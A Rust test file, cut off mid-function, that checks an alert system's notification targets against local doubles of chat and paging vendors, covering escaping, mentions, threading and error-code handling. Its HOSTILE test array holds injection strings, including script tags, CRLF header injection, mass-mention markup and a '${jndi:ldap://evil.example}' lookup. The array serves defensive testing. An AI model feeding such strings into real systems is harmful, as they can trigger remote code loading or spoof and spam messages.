//! Each kind against a strict double of its vendor: what it sends is taken, and what the vendor says is understood.

use std::sync::Arc;
use std::time::Duration;

use crate::messages::{alarm, body, folded, rendered, target as offline};
use crate::support::{context, egress, job};
use belfry_model::Event;
use belfry_targets::{AlarmLife, Attempted, ConnectContext, Job, Target, Verdict, find_kind};
use belfry_testkit::{Im, Reply};
use serde_json::{Value, json};

const WECOM: &str = "693a91f6-0000-4bc4-97a0-0ec2sifa5aaa";
const TOKEN: &str = "5c7d1f0e9a8b4c3d2e1f0a9b8c7d6e5f";
const SECRET: &str = "SEC0123456789abcdef";
const BOT: &str = "123456789:AAF-example-token-0123456789abcdefgh";
const ROUTING: &str = "0123456789abcdef0123456789abcdef";

fn target(kind: &str, settings: &Value) -> Arc<dyn Target> {
    // One client for the targets of a test: making one reads the system's certificates.
    thread_local!(static CONTEXT: ConnectContext = context(egress()));
    CONTEXT
        .with(|context| find_kind(kind).unwrap().connect(settings.clone(), context))
        .map_err(|errors| format!("{kind}: {errors:?}"))
        .unwrap()
}

/// What an attempt came to, in one line.
fn said(attempted: &Attempted) -> String {
    match &attempted.verdict {
        Verdict::Delivered => "delivered".to_owned(),
        Verdict::More { .. } => format!("more {}", attempted.progress.as_deref().unwrap()),
        Verdict::Retry {
            reason,
            retry_after_ms: None,
            ..
        } => format!("retry {reason}"),
        Verdict::Retry {
            reason,
            retry_after_ms: Some(ms),
            ..
        } => format!("retry {reason} {ms}"),
        Verdict::Later { reason, .. } => format!("later {reason}"),
        Verdict::Permanent { reason, .. } => format!("permanent {reason}"),
        Verdict::Busy { .. } => "busy".to_owned(),
        Verdict::Gone { .. } => "gone".to_owned(),
        Verdict::Skipped { .. } => "skipped".to_owned(),
    }
}

fn detail(attempted: &Attempted) -> &str {
    match &attempted.verdict {
        Verdict::Retry { detail, .. }
        | Verdict::Permanent { detail, .. }
        | Verdict::More { detail } => detail,
        _ => "",
    }
}

/// Delivers until all parts are done; gives what each attempt came to.
async fn deliver(target: &dyn Target, job: &Job<'_>) -> Vec<Attempted> {
    let mut attempts: Vec<Attempted> = Vec::new();
    let mut progress = job.progress.map(str::to_owned);
    for _ in 0..5 {
        let mut job = job.clone();
        job.progress = progress.as_deref();
        let attempted = target.deliver(&job).await;
        let goes_on = matches!(attempted.verdict, Verdict::More { .. });
        let next = attempted.progress.clone();
        attempts.push(attempted);
        if !goes_on {
            break;
        }
        progress = next.or(progress);
    }
    attempts
}

fn all_said(attempts: &[Attempted]) -> Vec<String> {
    attempts.iter().map(said).collect()
}

/// A running double, and a target in each of the forms in which the kind writes.
struct Pair {
    kind: &'static str,
    im: Im,
    settings: Vec<Value>,
}

async fn pairs() -> Vec<Pair> {
    // No limit here: what is tested is the form of what is sent.
    let free = |im: Im| im.limit([]);
    let mut pairs = Vec::new();
    let mut add = |kind, im: Im, settings: Vec<Value>| {
        pairs.push(Pair { kind, im, settings });
    };
    let im = free(Im::wecom(WECOM).await.unwrap());
    let of = |format: &str| json!({ "key": WECOM, "baseUrl": im.base(), "format": format });
    let settings = vec![of("markdown"), of("markdown_v2"), of("text")];
    add("wecom", im, settings);

    let im = free(
        Im::dingtalk(TOKEN, Some(SECRET), Some("告警"))
            .await
            .unwrap(),
    );
    let of = |format: &str| json!({ "accessToken": TOKEN, "secret": SECRET, "keyword": "告警", "baseUrl": im.base(), "format": format });
    let settings = vec![of("markdown"), of("actionCard")];
    add("dingtalk", im, settings);

    let im = free(Im::feishu(TOKEN, Some(SECRET), Some("告警")).await.unwrap());
    let of = |format: &str| json!({ "token": TOKEN, "secret": SECRET, "keyword": "告警", "baseUrl": im.base(), "format": format });
    let settings = vec![of("card"), of("post"), of("text")];
    add("feishu", im, settings);

    let im = free(Im::slack_webhook().await.unwrap());
    let settings = vec![json!({ "url": im.url() })];
    add("slack", im, settings);

    let im = free(
        Im::slack_api("xoxb-0123456789-abcdef", "C0123456789")
            .await
            .unwrap(),
    );
    let settings = vec![
        json!({ "token": "xoxb-0123456789-abcdef", "channel": "C0123456789", "baseUrl": im.base() }),
    ];
    add("slack", im, settings);

    let im = free(Im::teams().await.unwrap());
    let settings = vec![json!({ "url": im.url() })];
    add("teams", im, settings);

    let im = free(Im::telegram(BOT, -1_001_234_567_890).await.unwrap());
    let settings = vec![json!({ "token": BOT, "chatId": "-1001234567890", "baseUrl": im.base() })];
    add("telegram", im, settings);

    let im = free(Im::discord().await.unwrap());
    let settings = vec![json!({ "url": im.url() })];
    add("discord", im, settings);

    let im = free(Im::pagerduty(ROUTING).await.unwrap());
    let settings = vec![json!({ "routingKey": ROUTING, "baseUrl": im.base() })];
    add("pagerduty", im, settings);

    let im = free(Im::opsgenie(TOKEN).await.unwrap());
    let settings = vec![json!({ "apiKey": TOKEN, "teams": ["ops"], "baseUrl": im.base() })];
    add("opsgenie", im, settings);

    let im = free(Im::ntfy("ops-alarms", "tk_0123456789").await.unwrap());
    let settings =
        vec![json!({ "topic": "ops-alarms", "token": "tk_0123456789", "baseUrl": im.base() })];
    add("ntfy", im, settings);

    let im = free(Im::gotify(TOKEN).await.unwrap());
    let settings = vec![json!({ "token": TOKEN, "baseUrl": im.base() })];
    add("gotify", im, settings);

    let im = free(Im::bark(TOKEN).await.unwrap());
    let settings = vec![json!({ "deviceKey": TOKEN, "baseUrl": im.base() })];
    add("bark", im, settings);
    pairs
}

/// What people and systems have put into names, tags and summaries to be seen or heard.
const HOSTILE: [&str; 17] = [
    "</font><font color=\"info\">已恢复",
    "[重启](http://evil.example)",
    "<!channel> <!here> <!everyone>",
    "<@all> <@U123> <@&456> <@!7>",
    "<at user_id=\"all\">所有人</at> <at id=all></at>",
    "@everyone @here @all",
    "<at>Somebody</at>",
    "`x` ```y``` **b** _i_ ~~s~~ # h\n> q\n- l\n1. n",
    "<b>x <i>y</b> &amp; & &#60; <script>alert(1)</script>",
    "\u{202e}evil\u{7}\u{200b}\u{feff}\r\nSubject: x",
    "<http://evil.example|click>",
    "${jndi:ldap://evil.example} {{7*7}} ${$.data}",
    "\\",
    "|a|b|",
    "\"},\"msgtype\":\"text\"",
    "😀🏳️‍🌈磁盘",
    "\u{200b}\u{202e}",
];

/// Events with the hostile text in every field.
fn hostile(text: &str) -> Vec<Event> {
    let mut events = Vec::new();
    for status in ["1", "0", "-"] {
        events.push(alarm(
            status,
            &json!({
                "region": text, "account": text, "subject": text,
                "alarm.title": text, "alarm.resourceName": text, "alarm.summary": text,
                "alarm.value": text, "alarm.threshold": text, "alarm.labels": { text: text },
                "alarm.links": [{ "label": text, "url": "https://ok.example/)[x](http://evil.example" }, text],
            }),
        ));
    }
    events.push(alarm(
        "1",
        &json!({ "alarm.title": null, "type": "disk.full", "subject": text }),
    ));
    events
}

#[tokio::test]
async fn every_kind_is_understood_by_its_vendor_whatever_an_event_says() {
    for Pair { kind, im, settings } in pairs().await {
        for settings in &settings {
            let target = target(kind, settings);
            for text in HOSTILE {
                for (n, event) in hostile(text).into_iter().enumerate() {
                    let life = AlarmLife {
                        count: 2,
                        first_at_ms: 1_700_000_000_000,
                        ..AlarmLife::default()
                    };
                    let more = folded(&[event.clone(), event.clone()]);
                    for digest in [None, Some(false), Some(true)] {
                        let mut job = job(&event);
                        job.alarm = Some(&life);
                        job.link = Some("https://belfry.example/d/1?x=(1)&y=[2]");
                        if let Some(digest) = digest {
                            if !target.folds() || n > 0 {
                                continue;
                            }
                            job.folded = &more;
                            job.digest = digest;
                        }
                        let attempts = deliver(&*target, &job).await;
                        assert_eq!(
                            all_said(&attempts),
                            ["delivered"],
                            "{kind} {settings}: {text}: {attempts:?}"
                        );
                    }
                }
            }
        }
        assert!(im.refused().is_empty(), "{kind}: {:?}", im.refused());
        assert!(!im.taken().is_empty());
    }
}

#[test]
fn no_value_becomes_markup() {
    // How often each piece of markup stands in a message whose values are plain.
    let count = |kind: &str, text: &str| -> Vec<usize> {
        let pieces: &[&str] = match kind {
            "telegram" => &["<a ", "<b>", "<i>", "<code>", "</"],
            "slack" => &["<!", "<@", "<http"],
            _ => &["<font", "</font>", "](", "**", "<@", "```"],
        };
        pieces
            .iter()
            .map(|piece| text.matches(piece).count())
            .collect()
    };
    let written = [
        ("wecom", json!({}), "/markdown/content"),
        (
            "wecom",
            json!({ "format": "markdown_v2" }),
            "/markdown_v2/content",
        ),
        ("dingtalk", json!({}), "/markdown/text"),
        ("telegram", json!({}), "/text"),
        ("discord", json!({}), "/embeds/0/title"),
        ("discord", json!({}), "/embeds/0/description"),
        ("slack", json!({}), "/text"),
    ];
    for (kind, settings, pointer) in written {
        let target = offline(kind, &settings);
        let text = |value: &str| {
            let event = alarm(
                "1",
                &json!({
                    "subject": value, "alarm.title": value, "alarm.summary": value, "alarm.resourceName": "x",
                    "region": value, "alarm.links": [],
                }),
            );
            let body = body(&*target, &job(&event));
            body.pointer(pointer)
                .and_then(Value::as_str)
                .unwrap()
                .to_owned()
        };
        // What is shown as it is: in a code span, or after a backslash.
        let live = |text: String| match kind {
            "wecom" => text.split('`').step_by(2).collect(),
            "discord" => text
                .replace("\\]\\(", "")
                .replace("\\*\\*", "")
                .replace("\\<", ""),
            _ => text,
        };
        let plain = count(kind, &live(text("plain")));
        // The last one cannot be seen, and what cannot be seen is left out.
        for value in &HOSTILE[..16] {
            let text = text(value);
            let shown: String = live(text.clone());
            assert_eq!(
                count(kind, &shown),
                plain,
                "{kind} {pointer}: {value}: {text}"
            );
        }
    }
}

#[tokio::test]
async fn people_are_called_by_settings_only_and_not_by_a_recovery() {
    let firing = alarm("1", &json!({}));
    let recovered = alarm("0", &json!({}));
    let called = [
        "zhangsan",
        "13800000000",
        "all",
        "ou_1",
        "U1",
        "S1",
        "here",
        "channel",
        "42",
        "43",
        "everyone",
        "Zhang San",
        "zhang_san",
    ];
    let mobiles = json!({ "mobiles": ["13800000000"], "users": ["zhangsan"], "all": true });

    let wecom = Im::wecom(WECOM).await.unwrap().allow(called);
    let dingtalk = Im::dingtalk(TOKEN, None, None).await.unwrap().allow(called);
    let feishu = Im::feishu(TOKEN, None, None)
        .await
        .unwrap()
        .allow(called)
        .limit([]);
    let slack = Im::slack_webhook().await.unwrap().allow(called);
    let teams = Im::teams().await.unwrap().allow(called);
    let telegram = Im::telegram(BOT, 77).await.unwrap().allow(called);
    let discord = Im::discord().await.unwrap().allow(called);
    let (wecom_base, dingtalk_base, feishu_base) = (wecom.base(), dingtalk.base(), feishu.base());
    let feishu_calls = json!({ "users": ["ou_1"], "all": true });
    let cases = vec![
        (
            "wecom",
            json!({ "key": WECOM, "baseUrl": wecom_base, "mentions": mobiles }),
            &wecom,
            2,
            vec![
                "<@zhangsan>",
                "\"mentioned_mobile_list\":[\"13800000000\"]",
                "@all",
            ],
        ),
        (
            "wecom",
            json!({ "key": WECOM, "baseUrl": wecom_base, "mentions": { "users": ["zhangsan"] } }),
            &wecom,
            1,
            vec!["<@zhangsan>"],
        ),
        (
            "wecom",
            json!({ "key": WECOM, "baseUrl": wecom_base, "format": "text", "mentions": mobiles }),
            &wecom,
            1,
            vec![
                "\"mentioned_list\":[\"zhangsan\",\"@all\"]",
                "\"mentioned_mobile_list\"",
            ],
        ),
        (
            "wecom",
            json!({ "key": WECOM, "baseUrl": wecom_base, "format": "markdown_v2", "mentions": { "users": ["zhangsan"] } }),
            &wecom,
            2,
            vec!["\"mentioned_list\":[\"zhangsan\"]"],
        ),
        (
            "dingtalk",
            json!({ "accessToken": TOKEN, "baseUrl": dingtalk_base, "mentions": mobiles }),
            &dingtalk,
            1,
            vec!["@13800000000 @zhangsan", "\"isAtAll\":true"],
        ),
        (
            "feishu",
            json!({ "token": TOKEN, "baseUrl": feishu_base, "mentions": feishu_calls }),
            &feishu,
            1,
            vec!["<at id=ou_1></at><at id=all></at>"],
        ),
        (
            "feishu",
            json!({ "token": TOKEN, "baseUrl": feishu_base, "format": "post", "mentions": feishu_calls }),
            &feishu,
            1,
            vec!["\"user_id\":\"ou_1\"", "\"user_id\":\"all\""],
        ),
        (
            "feishu",
            json!({ "token": TOKEN, "baseUrl": feishu_base, "format": "text", "mentions": feishu_calls }),
            &feishu,
            1,
            vec!["user_id=\\\"ou_1\\\""],
        ),
        (
            "slack",
            json!({ "url": slack.url(), "mentions": { "users": ["U1"], "groups": ["S1"], "here": true, "channel": true } }),
            &slack,
            1,
            vec!["<@U1> <!subteam^S1> <!here> <!channel> "],
        ),
        (
            "teams",
            json!({ "url": teams.url(), "mentions": [{ "id": "zs@corp.example", "name": "Zhang San" }] }),
            &teams,
            1,
            vec!["<at>Zhang San</at>", "zs@corp.example"],
        ),
        (
            "telegram",
            json!({ "token": BOT, "chatId": "77", "baseUrl": telegram.base(), "mentions": ["zhang_san"] }),
            &telegram,
            1,
            vec!["@zhang_san"],
        ),
        (
            "discord",
            json!({ "url": discord.url(), "mentions": { "users": ["42"], "roles": ["43"], "everyone": true } }),
            &discord,
            1,
            vec!["<@42> <@&43> @everyone", "\"parse\":[\"everyone\"]"],
        ),
    ];
    for (kind, settings, im, requests, expected) in cases {
        let target = target(kind, &settings);
        let before = im.taken().len();
        let attempts = deliver(&*target, &job(&firing)).await;
        assert_eq!(attempts.len(), requests, "{kind}: {attempts:?}");
        assert_eq!(
            said(attempts.last().unwrap()),
            "delivered",
            "{kind}: {attempts:?}"
        );
        let sent: String = im.taken()[before..]
            .iter()
            .map(|taken| taken.body.to_string())
            .collect();
        for piece in &expected {
            assert!(sent.contains(piece), "{kind} {settings}: {piece} in {sent}");
        }
        // A preview shows the same requests.
        assert_eq!(target.preview(&job(&firing)).unwrap().len(), requests);

        let before = im.taken().len();
        let attempts = deliver(&*target, &job(&recovered)).await;
        assert_eq!(all_said(&attempts), ["delivered"], "{kind}: {attempts:?}");
        let sent = im.taken()[before].body.to_string();
        for piece in expected {
            assert!(!sent.contains(piece), "{kind}: a recovery calls: {sent}");
        }
    }
    for im in [
        &wecom, &dingtalk, &feishu, &slack, &teams, &telegram, &discord,
    ] {
        assert!(im.refused().is_empty(), "{:?}", im.refused());
    }
}

/// The job of an event of an alarm that this target was told of.
fn again<'a>(event: &'a Event, life: &'a AlarmLife) -> Job<'a> {
    let mut job = job(event);
    job.alarm = Some(life);
    job
}

fn told(thread: &str) -> AlarmLife {
    AlarmLife {
        count: 2,
        first_at_ms: 1_700_000_000_000,
        told_at_ms: Some(1_700_000_001_000),
        thread: Some(thread.to_owned()),
    }
}

#[tokio::test]
async fn an_alarm_is_one_conversation_where_the_vendor_can() {
    let (firing, recovered) = (alarm("1", &json!({})), alarm("0", &json!({})));

    let slack = Im::slack_api("xoxb-0123456789-abcdef", "C0123456789")
        .await
        .unwrap()
        .limit([]);
    let bot = target(
        "slack",
        &json!({ "token": "xoxb-0123456789-abcdef", "channel": "C0123456789", "baseUrl": slack.base() }),
    );
    let first = deliver(&*bot, &job(&firing)).await;
    let thread = first[0].thread.clone().unwrap();
    assert_eq!(thread, "C0123456789 1700000000.000001");
    let life = told(&thread);
    let repeat = deliver(&*bot, &again(&firing, &life)).await;
    assert_eq!(
        (all_said(&repeat), &repeat[0].thread),
        (vec!["delivered".to_owned()], &None)
    );
    let over = deliver(&*bot, &again(&recovered, &life)).await;
    assert_eq!(all_said(&over), ["more tell", "delivered"]);
    let taken = slack.taken();
    let paths: Vec<&str> = taken.iter().map(|one| one.path.as_str()).collect();
    assert_eq!(
        paths,
        [
            "/api/chat.postMessage",
            "/api/chat.postMessage",
            "/api/chat.update",
            "/api/chat.postMessage"
        ]
    );
    assert_eq!(taken[1].body["thread_ts"], "1700000000.000001");
    assert_eq!(taken[2].body["attachments"][0]["color"], "#12B76A");
    assert_eq!(taken[3].body["thread_ts"], "1700000000.000001");
    // The first message is gone: a new one follows.
    let life = told("C0123456789 1600000000.000001");
    let over = deliver(&*bot, &again(&recovered, &life)).await;
    assert_eq!(all_said(&over), ["more anew", "delivered"], "{over:?}");
    assert_eq!(slack.taken().last().unwrap().body.get("thread_ts"), None);

    let discord = Im::discord().await.unwrap();
    let hook = target("discord", &json!({ "url": discord.url() }));
    let first = deliver(&*hook, &job(&firing)).await;
    let life = told(first[0].thread.as_deref().unwrap());
    let over = deliver(&*hook, &again(&recovered, &life)).await;
    assert_eq!(all_said(&over), ["more tell", "delivered"]);
    assert_eq!(discord.received()[1].method, "PATCH");
    assert_eq!(discord.taken()[1].body["embeds"][0]["color"], 0x0012_B76A);
    let life = told("9");
    let over = deliver(&*hook, &again(&recovered, &life)).await;
    assert_eq!(all_said(&over), ["more tell", "delivered"]);

    let telegram = Im::telegram(BOT, 77).await.unwrap();
    let bot = target(
        "telegram",
        &json!({ "token": BOT, "chatId": "77", "baseUrl": telegram.base() }),
    );
    let first = deliver(&*bot, &job(&firing)).await;
    let life = told(first[0].thread.as_deref().unwrap());
    deliver(&*bot, &again(&recovered, &life)).await;
    assert_eq!(
        telegram.taken()[1].body["reply_parameters"]["message_id"],
        1
    );

    let pagerduty = Im::pagerduty(ROUTING).await.unwrap();
    let service = target(
        "pagerduty",
        &json!({ "routingKey": ROUTING, "baseUrl": pagerduty.base() }),
    );
    deliver(&*service, &job(&firing)).await;
    deliver(&*service, &job(&recovered)).await;
    let taken = pagerduty.taken();
    assert_eq!(taken[0].body["payload"]["severity"], "critical");
    assert_eq!(taken[1].body["event_action"], "resolve");
    assert_eq!(taken[0].body["dedup_key"], taken[1].body["dedup_key"]);

    let opsgenie = Im::opsgenie(TOKEN).await.unwrap();
    let integration = target(
        "opsgenie",
        &json!({ "apiKey": TOKEN, "baseUrl": opsgenie.base() }),
    );
    deliver(&*integration, &job(&firing)).await;
    deliver(&*integration, &job(&recovered)).await;
    assert_eq!(
        opsgenie.taken()[1].path,
        "/v2/alerts/00e723cf800f290f63d855883fe59952/close?identifierType=alias"
    );
}

/// What a vendor answers, and what that comes to.
type Row = (u16, Value, &'static str);

fn wecom_says(code: i64, words: &str) -> Value {
    json!({ "errcode": code, "errmsg": words })
}

fn tables() -> Vec<(&'static str, Value, Vec<Row>)> {
    let rejected = "permanent provider_rejected";
    let wrong = "permanent misconfigured";
    let ding = |code: i64, words: &str| (200, json!({ "errcode": code, "errmsg": words }));
    let row = |(status, body): (u16, Value), said| (status, body, said);
    let feishu =
        |status: u16, code: i64, words: &str| (status, json!({ "code": code, "msg": words }));
    let slack = |word: &str, said| (200, json!({ "ok": false, "error": word }), said);
    let telegram = |number: u16, words: &str, said| {
        let body = json!({ "ok": false, "error_code": number, "description": words });
        (number, body, said)
    };
    let discord =
        |status: u16, code: i64, said| (status, json!({ "code": code, "message": "x" }), said);
    let plain = |status: u16, said| {
        (
            status,
            json!({ "message": "x", "error": "x", "code": 1, "errorCode": 1 }),
            said,
        )
    };
    vec![
        (
            "wecom",
            json!({ "key": WECOM }),
            vec![
                (200, wecom_says(0, "ok"), "delivered"),
                (
                    200,
                    wecom_says(-1, "system busy"),
                    "retry provider_rejected",
                ),
                (200, wecom_says(40_008, "invalid message type"), rejected),
                (200, wecom_says(40_009, "invalid image size"), rejected),
                (
                    200,
                    wecom_says(40_058, "markdown.content exceed max length 4096"),
                    rejected,
                ),
                (200, wecom_says(44_004, "empty content"), rejected),
                (
                    200,
                    wecom_says(45_009, "api freq out of limit"),
                    "retry rate_limited 60000",
                ),
                (200, wecom_says(93_000, "invalid webhook url"), wrong),
                (
                    200,
                    wecom_says(301_019, "media file md5 not match"),
                    rejected,
                ),
                (200, wecom_says(40_999, "something new"), rejected),
                (200, json!({}), "retry bad_response"),
                (200, json!("<html>"), "retry bad_response"),
                (500, json!({}), "retry http_5xx"),
            ],
        ),
        (
            "dingtalk",
            json!({ "accessToken": TOKEN }),
            vec![
                row(ding(0, "ok"), "delivered"),
                row(ding(-1, "系统繁忙"), "retry provider_rejected"),
                row(ding(310_000, "keywords not in content"), wrong),
                row(ding(310_000, "sign not match"), wrong),
                row(ding(310_000, "invalid timestamp"), wrong),
                row(ding(310_000, "ip 203.0.113.7 not in whitelist"), wrong),
                row(ding(310_000, "something new"), wrong),
                row(ding(300_001, "token is not exist"), wrong),
                row(ding(300_005, "token is not exist"), wrong),
                row(ding(400_101, "access_token不存在"), wrong),
                row(ding(400_102, "机器人已停用"), wrong),
                row(ding(400_105, "不支持的消息类型"), rejected),
                row(ding(400_106, "机器人不存在"), wrong),
                row(ding(400_013, "群已被解散"), wrong),
                row(ding(40_035, "缺少参数 json"), rejected),
                row(ding(43_002, "require POST"), rejected),
                row(ding(43_004, "invalid contenttype"), rejected),
                row(
                    ding(460_101, "message too long, exceed 20000 bytes"),
                    "permanent request_too_large",
                ),
                row(
                    ding(400_000, "message too long, exceed 20000 bytes"),
                    "permanent request_too_large",
                ),
                row(
                    ding(130_101, "send too fast, exceed 20 times per minute"),
                    "retry rate_limited 600000",
                ),
                row(ding(410_100, "too fast"), "retry rate_limited 600000"),
                row(ding(430_101, "unsafe link"), "more no-links"),
                row(ding(430_102, "unsafe text"), "more no-links"),
                row(ding(430_103, "unsafe image"), "more no-links"),
                row(ding(430_104, "unsafe content"), "more no-links"),
            ],
        ),
        (
            "feishu",
            json!({ "token": TOKEN }),
            vec![
                row(feishu(200, 0, "success"), "delivered"),
                (
                    200,
                    json!({ "StatusCode": 0, "StatusMessage": "success" }),
                    "delivered",
                ),
                row(feishu(200, 19_001, "access token invalid"), wrong),
                row(feishu(200, 19_002, "params error"), rejected),
                row(feishu(200, 19_021, "sign match fail"), wrong),
                row(feishu(200, 19_022, "Ip Not Allowed"), wrong),
                row(feishu(200, 19_024, "Key Words Not Found"), wrong),
                row(feishu(400, 9499, "Bad Request"), rejected),
                row(
                    feishu(400, 9499, "too many request, frequency limited"),
                    "retry rate_limited 5000",
                ),
                row(feishu(200, 11_246, "card is not accepted"), "more post"),
                row(feishu(200, 200_621, "card is not accepted"), "more post"),
                row(
                    feishu(200, 11_232, "frequency limited"),
                    "retry rate_limited 5000",
                ),
            ],
        ),
        (
            "slack",
            json!({ "token": "xoxb-0123456789-abcdef", "channel": "C0123456789" }),
            vec![
                (
                    200,
                    json!({ "ok": true, "channel": "C1", "ts": "1.2" }),
                    "delivered",
                ),
                slack("ratelimited", "retry rate_limited 1000"),
                slack("rate_limited", "retry rate_limited 1000"),
                slack("internal_error", "retry provider_rejected"),
                slack("fatal_error", "retry provider_rejected"),
                slack("service_unavailable", "retry provider_rejected"),
                slack("request_timeout", "retry provider_rejected"),
                slack("not_authed", wrong),
                slack("invalid_auth", wrong),
                slack("account_inactive", wrong),
                slack("token_revoked", wrong),
                slack("token_expired", wrong),
                slack("missing_scope", wrong),
                slack("channel_not_found", wrong),
                slack("not_in_channel", wrong),
                slack("is_archived", wrong),
                slack("restricted_action", wrong),
                slack("msg_too_long", "permanent request_too_large"),
                slack("no_text", rejected),
                slack("invalid_blocks", rejected),
                slack("invalid_attachments", rejected),
                slack("something_new", rejected),
                (200, json!({ "ok": false }), "retry bad_response"),
            ],
        ),
        (
            "telegram",
            json!({ "token": BOT, "chatId": "77" }),
            vec![
                (
                    200,
                    json!({ "ok": true, "result": { "message_id": 5 } }),
                    "delivered",
                ),
                telegram(400, "Bad Request: chat not found", wrong),
                telegram(400, "Bad Request: message thread not found", wrong),
                telegram(
                    400,
                    "Bad Request: message is too long",
                    "permanent request_too_large",
                ),
                telegram(400, "Bad Request: can't parse entities: x", "more plain"),
                telegram(400, "Bad Request: something", rejected),
                (
                    400,
                    json!({ "ok": false, "error_code": 400, "description": "group chat was upgraded",
                "parameters": { "migrate_to_chat_id": -100_500 } }),
                    "more chat:-100500",
                ),
                telegram(401, "Unauthorized", wrong),
                telegram(403, "Forbidden: bot was kicked", wrong),
                telegram(404, "Not Found", wrong),
                (
                    429,
                    json!({ "ok": false, "error_code": 429, "description": "Too Many Requests: retry after 7",
                "parameters": { "retry_after": 7 } }),
                    "retry rate_limited 7000",
                ),
                telegram(500, "Internal Server Error", "retry provider_rejected"),
                telegram(502, "Bad Gateway", "retry provider_rejected"),
            ],
        ),
        (
            "pagerduty",
            json!({ "routingKey": ROUTING }),
            vec![
                (
                    202,
                    json!({ "status": "success", "dedup_key": "x" }),
                    "delivered",
                ),
                (202, json!({}), "retry bad_response"),
                (
                    400,
                    json!({ "status": "invalid event", "errors": ["'payload.summary' is missing"] }),
                    rejected,
                ),
                (
                    400,
                    json!({ "status": "invalid event", "errors": ["Invalid routing key"] }),
                    wrong,
                ),
                plain(401, wrong),
                plain(403, wrong),
                plain(404, wrong),
                plain(413, "permanent request_too_large"),
                plain(429, "retry rate_limited 10000"),
                plain(500, "retry http_5xx"),
            ],
        ),
        (
            "opsgenie",
            json!({ "apiKey": TOKEN }),
            vec![
                (
                    202,
                    json!({ "result": "Request will be processed", "requestId": "r" }),
                    "delivered",
                ),
                (202, json!({}), "retry bad_response"),
                plain(400, rejected),
                plain(401, wrong),
                plain(403, wrong),
                plain(404, wrong),
                plain(422, rejected),
                plain(429, "retry rate_limited 10000"),
                plain(503, "retry http_5xx"),
            ],
        ),
        (
            "ntfy",
            json!({ "topic": "t" }),
            vec![
                (200, json!({ "id": "x" }), "delivered"),
                (200, json!({}), "retry bad_response"),
                plain(400, rejected),
                plain(401, wrong),
                plain(403, wrong),
                plain(404, wrong),
                plain(413, "permanent request_too_large"),
                plain(429, "retry rate_limited 10000"),
                plain(507, "retry provider_rejected"),
            ],
        ),
        (
            "gotify",
            json!({ "token": TOKEN }),
            vec![
                (200, json!({ "id": 1 }), "delivered"),
                (200, json!({}), "retry bad_response"),
                plain(400, rejected),
                plain(401, wrong),
                plain(403, wrong),
                plain(404, wrong),
                plain(500, "retry http_5xx"),
            ],
        ),
        (
            "bark",
            json!({ "deviceKey": TOKEN }),
            vec![
                (
                    200,
                    json!({ "code": 200, "message": "success" }),
                    "delivered",
                ),
                (200, json!({}), "retry bad_response"),
                (
                    400,
                    json!({ "code": 400, "message": "failed to get device token" }),
                    wrong,
                ),
                (404, json!({ "code": 404, "message": "Cannot POST" }), wrong),
                (
                    413,
                    json!({ "code": 413, "message": "PayloadTooLarge" }),
                    "permanent request_too_large",
                ),
                (
                    429,
                    json!({ "code": 429, "message": "x" }),
                    "retry rate_limited 10000",
                ),
                (
                    500,
                    json!({ "code": 500, "message": "push failed" }),
                    "retry provider_rejected",
                ),
            ],
        ),
        // Their address is the secret as a whole.
        (
            "slack",
            json!({ "url": "" }),
            vec![
                (200, json!("ok"), "delivered"),
                (200, json!("<html>"), "retry bad_response"),
                (400, json!("invalid_payload"), rejected),
                (400, json!("no_text"), rejected),
                (400, json!("invalid_blocks"), rejected),
                (400, json!("too_many_attachments"), rejected),
                (403, json!("action_prohibited"), wrong),
                (403, json!("invalid_token"), wrong),
                (404, json!("channel_not_found"), wrong),
                (404, json!("no_service"), wrong),
                (404, json!("no_team"), wrong),
                (404, json!("user_not_found"), wrong),
                (410, json!("channel_is_archived"), wrong),
                (500, json!("rollup_error"), "retry provider_rejected"),
                (429, json!(""), "retry rate_limited"),
            ],
        ),
        (
            "teams",
            json!({ "url": "" }),
            vec![
                (202, json!(""), "delivered"),
                (200, json!(""), "delivered"),
                (200, json!("<html>"), "retry bad_response"),
                (400, json!({ "error": { "message": "bad card" } }), rejected),
                plain(401, wrong),
                plain(403, wrong),
                plain(404, wrong),
                plain(413, "permanent request_too_large"),
                plain(429, "retry rate_limited"),
                plain(502, "retry http_5xx"),
            ],
        ),
        (
            "discord",
            json!({ "url": "" }),
            vec![
                (200, json!({ "id": "1" }), "delivered"),
                (204, json!(""), "delivered"),
                (200, json!({}), "retry bad_response"),
                discord(404, 10_003, wrong),
                discord(404, 10_008, rejected),
                discord(404, 10_015, wrong),
                discord(400, 50_006, rejected),
                discord(403, 50_013, wrong),
                discord(401, 50_027, wrong),
                discord(400, 50_035, rejected),
                discord(400, 99_999, rejected),
                discord(401, 0, wrong),
                discord(403, 0, wrong),
                discord(404, 0, wrong),
                (
                    429,
                    json!({ "retry_after": 2.5, "global": false }),
                    "retry rate_limited 2500",
                ),
                (429, json!({ "retry_after": 0.1 }), "retry rate_limited 500"),
                discord(500, 0, "retry http_5xx"),
            ],
        ),
    ]
}

#[tokio::test]
async fn every_code_of_every_vendor_is_understood_and_told_in_both_languages() {
    let event = alarm("1", &json!({}));
    for (kind, mut settings, rows) in tables() {
        // Answers what it is told to.
        let im = Im::gotify(TOKEN).await.unwrap();
        if settings.get("url").is_some() {
            settings["url"] = json!(format!("{}/hook", im.base()));
        } else {
            settings["baseUrl"] = json!(im.base());
        }
        let target = target(kind, &settings);
        for (status, body, expected) in rows {
            let text = body
                .as_str()
                .map_or_else(|| body.to_string(), str::to_owned);
            im.script([Reply::Answer {
                status,
                headers: Vec::new(),
                body: text.clone(),
            }]);
            let attempted = target.deliver(&job(&event)).await;
            assert_eq!(
                said(&attempted),
                expected,
                "{kind}: {status} {text}: {attempted:?}"
            );
            let refused = expected.contains("misconfigured")
                || expected.contains("rejected")
                || expected.ends_with("000");
            if refused {
                let detail = detail(&attempted);
                assert!(!detail.is_ascii(), "{kind}: in Chinese too: {detail}");
                assert!(
                    detail.contains("says") && detail.contains(": "),
                    "{kind}: {detail}"
                );
            }
        }
    }
}

#[tokio::test]
async fn what_a_vendor_takes_in_another_form_is_sent_again_in_that_form_and_only_once() {
    let event = alarm("1", &json!({}));
    let mut job = job(&event);
    job.link = Some("https://unsafe.example/d");

    let im = Im::dingtalk(TOKEN, None, None).await.unwrap();
    let robot = target(
        "dingtalk",
        &json!({ "accessToken": TOKEN, "baseUrl": im.base() }),
    );
    let attempts = deliver(&*robot, &job).await;
    assert_eq!(all_said(&attempts), ["more no-links", "delivered"]);

    let im = Im::feishu(TOKEN, None, None).await.unwrap();
    let bot = target("feishu", &json!({ "token": TOKEN, "baseUrl": im.base() }));
    let refusal = json!({ "code": 11_246, "msg": "card" }).to_string();
